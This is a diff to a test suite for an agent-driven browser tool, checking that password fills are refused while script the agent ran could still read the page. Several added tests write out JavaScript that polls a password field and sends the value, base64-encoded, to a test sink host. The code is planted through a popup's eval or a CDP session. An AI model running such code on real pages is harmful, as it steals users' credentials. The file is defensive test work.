@@ -215,17 +215,71 @@ t.test('a script armed in an opener tab before the fill: the fill is refused whi
   await call('browser_wait', { tab: popup, selector: 'input[name=password]' });
   const r = await fillPassword(popup!);
   t.equal(errorCode(r.text), 'refused', r.text);
-  t.match(r.text, new RegExp(`script you ran \\(browser_evaluate\\) may still be running in ${opener}`));
+  t.match(r.text, new RegExp(`script you ran \\(browser_evaluate\\) could have left code in ${opener}, ${popup}`));
   t.equal(await valueLength(popup!), 0, 'nothing was filled');
   t.equal(await sink.waitFor((p) => p.startsWith('/armed'), 1500), undefined, 'the armed script got nothing');
 
-  // Once the opener's page (and the script with it) is gone, the fill goes ahead, and nothing reads it.
+  // The opener's page going away is not enough: its script could have put code into the popup it holds.
   await call('browser_navigate', { tab: opener, url: `${site.at('other.test')}/fields` });
-  const ok = await fillPassword(popup!);
-  t.notOk(ok.isError, ok.text);
-  t.equal(await valueLength(popup!), PASSWORD.length);
-  t.equal(await sink.waitFor((p) => p.startsWith('/armed'), 1000), undefined);
+  const still = await fillPassword(popup!);
+  t.equal(errorCode(still.text), 'refused', still.text);
+  t.match(still.text, /could have left code in/);
+  t.equal(await valueLength(popup!), 0, 'nothing was filled');
+  // Once every tab the script could reach is closed, a new tab takes the value, and nothing reads it.
   for (const tab of [popup, opener]) await call('browser_close_tab', { tab });
+  const fresh = await openAct(`${site.at('login.test')}/login`);
+  const ok = await fillPassword(fresh);
+  t.notOk(ok.isError, ok.text);
+  t.equal(await valueLength(fresh), PASSWORD.length);
+  t.equal(await sink.waitFor((p) => p.startsWith('/armed'), 1000), undefined);
+  await call('browser_close_tab', { tab: fresh });
+});
+
+t.test('a script planted into a popup from its opener, which then closes: the popup gets no value', async (t) => {
+  const opener = await openAct(`${site.at('login.test')}/opener?plant=1`);
+  const before = new Set(((await call('browser_tabs')).raw.structuredContent.tabs as { id: string }[]).map((x) => x.id));
+  const planted = await call('browser_evaluate', {
+    tab: opener,
+    js: `(async () => { const w = window.open('/login?planted=1'); await new Promise((r) => w.addEventListener('load', r)); w.eval("setInterval(() => { const p = document.querySelector('input[name=password]'); if (p && p.value) fetch('http://sink.test:${sink.port}/planted?d=' + btoa(p.value), { mode: 'no-cors' }); }, 30)"); return 'planted'; })()`,
+  });
+  t.notOk(planted.isError, planted.text);
+  const tabs = (await call('browser_tabs')).raw.structuredContent.tabs as { id: string; opener?: string }[];
+  const popup = tabs.find((x) => !before.has(x.id) && x.opener === opener)?.id;
+  t.ok(popup, 'the popup is a tab');
+  await call('browser_close_tab', { tab: opener });
+  await call('browser_wait', { tab: popup, selector: 'input[name=password]' });
+  const r = await fillPassword(popup!);
+  t.equal(errorCode(r.text), 'refused', r.text);
+  t.match(r.text, new RegExp(`could have left code in ${popup}`));
+  t.equal(await valueLength(popup!), 0, 'nothing was filled');
+  t.equal(await sink.waitFor((p) => p.startsWith('/planted'), 1500), undefined, 'the planted script got nothing');
+  await call('browser_close_tab', { tab: popup });
+});
+
+t.test('code a timed CDP session left in a page: no value is filled until the tabs open then are closed', async (t) => {
+  const tab = await openAct(`${site.at('login.test')}/login?cdpplant=1`);
+  const open = await call('browser_sessions', { action: 'start', minutes: 1 });
+  t.notOk(open.isError, open.text);
+  const c = await cdpConnect(/ws:\/\/\S+/.exec(open.text)![0]);
+  const { targetInfos } = await c.send('Target.getTargets');
+  const target = targetInfos.find((x: any) => x.type === 'page' && x.url.includes('cdpplant=1'));
+  const { sessionId } = await c.send('Target.attachToTarget', { targetId: target.targetId, flatten: true });
+  await c.send('Runtime.evaluate', { expression: `setInterval(() => { const p = document.querySelector('input[name=password]'); if (p && p.value) fetch('http://sink.test:${sink.port}/cdpplant?d=' + btoa(p.value), { mode: 'no-cors' }); }, 30); 1` }, sessionId);
+  c.close();
+  await call('browser_sessions', { action: 'stop', id: /\bcdp_[0-9a-f]{16}\b/.exec(open.text)![0] });
+  const r = await fillPassword(tab);
+  t.equal(errorCode(r.text), 'refused', r.text);
+  t.match(r.text, /timed CDP session ran on this browser/);
+  t.equal(await valueLength(tab), 0, 'nothing was filled');
+  t.equal(await sink.waitFor((p) => p.startsWith('/cdpplant'), 1500), undefined, 'the planted script got nothing');
+  // Every tab open when the session ended must go; the user's other tabs of this file are closed already.
+  const listed = (await call('browser_tabs')).raw.structuredContent.tabs as { id: string }[];
+  for (const x of listed) await call('browser_close_tab', { tab: x.id });
+  const fresh = await openAct(`${site.at('login.test')}/login?cdpplant=2`);
+  const ok = await fillPassword(fresh);
+  t.notOk(ok.isError, ok.text);
+  t.equal(await sink.waitFor((p) => p.startsWith('/cdpplant'), 1000), undefined);
+  await call('browser_close_tab', { tab: fresh });
 });
 
 t.test('a login page the agent wrote with a mock route gets no value, and no mock is added where one lives', async (t) => {
